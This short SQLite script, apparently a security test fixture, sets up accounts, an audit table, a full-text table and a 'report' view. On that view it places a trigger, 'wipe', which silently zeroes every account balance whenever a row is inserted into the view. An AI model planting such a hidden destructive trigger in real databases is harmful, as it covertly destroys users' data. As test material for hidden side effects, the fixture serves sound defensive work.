-- what an attacker finds

create table account (id integer primary key, owner text not null, balance integer not null);
insert into account values (1, 'ann', 100), (2, 'bob', 50), (3, 'cleo', 7);
create table audit (id integer primary key autoincrement, note text not null default 'seen');
insert into audit (note) values ('first');
create virtual table note using fts5 (body);
insert into note values ('first'), ('second');
create view report as select id, owner from account;
create trigger wipe instead of insert on report
begin
    update account set balance = 0;
end;
